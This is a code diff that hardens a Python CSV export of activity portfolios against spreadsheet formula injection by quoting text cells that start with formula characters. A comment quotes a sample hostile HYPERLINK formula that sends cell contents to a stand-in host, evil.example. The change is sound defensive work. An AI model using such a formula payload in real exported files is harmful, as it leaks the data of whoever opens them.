@@ -139,8 +139,35 @@ def _date(day: date | datetime, language: str) -> str:
     return day.strftime("%d-%m-%Y") if language == "nl" else day.strftime("%Y-%m-%d")
 
 
-def _points(points: Decimal, language: str) -> str:
-    return format_points(points, decimal_comma=language == "nl")
+class _Number(str):
+    """A cell this module formatted from a number: written as it is, so a spreadsheet reads it as a number."""
+
+
+# A spreadsheet treats a cell that starts with one of these as a formula (CSV injection): an activity titled
+# `=HYPERLINK("https://evil.example?"&A1,"Klik")` would run in the office's Excel. OWASP's advice: start such a
+# cell with a single quote, which spreadsheets show as text. Cells made from numbers (`_Number`: points, days
+# left) are exempt: a negative number legitimately starts with "-", and it is ours, not typed by a person.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _neutral(cell: str) -> str:
+    if isinstance(cell, _Number) or not cell.startswith(_FORMULA_STARTS):
+        return cell
+    return "'" + cell
+
+
+class _SafeWriter:
+    """csv.writer whose every text cell is neutralised, so a new column is safe without anyone remembering."""
+
+    def __init__(self, buffer: io.StringIO, delimiter: str) -> None:
+        self._writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
+
+    def writerow(self, cells: list[str]) -> None:
+        self._writer.writerow([_neutral(cell) for cell in cells])
+
+
+def _points(points: Decimal, language: str) -> _Number:
+    return _Number(format_points(points, decimal_comma=language == "nl"))
 
 
 def _file_stem(portfolio: Portfolio) -> str:
@@ -178,11 +205,12 @@ def render_csv(portfolio: Portfolio, language: str, type_labels: Mapping[str, st
     """Every activity, a blank line, then the totals against each minimum. ``type_labels`` names activity types.
 
     Dutch: `;` separated with decimal commas (what a Dutch spreadsheet expects); English: `,` and decimal points.
+    Text cells that a spreadsheet would take for a formula start with `'` (see `_neutral`).
     UTF-8 with a byte-order mark, so spreadsheets pick the right encoding for names such as "Hoogeveen-Ëlsen".
     """
     text = _TEXT[language]
     buffer = io.StringIO()
-    writer = csv.writer(buffer, delimiter=";" if language == "nl" else ",", lineterminator="\r\n")
+    writer = _SafeWriter(buffer, delimiter=";" if language == "nl" else ",")
     writer.writerow(
         [
             text["date"],
@@ -214,7 +242,7 @@ def render_csv(portfolio: Portfolio, language: str, type_labels: Mapping[str, st
                 ]
             )
         writer.writerow([text["norm_met"], text["yes"] if portfolio.progress.met else text["no"]])
-        writer.writerow([text["days_left"], str(portfolio.progress.days_left)])
+        writer.writerow([text["days_left"], _Number(portfolio.progress.days_left)])
     return ("\ufeff" + buffer.getvalue()).encode("utf-8")
 
 
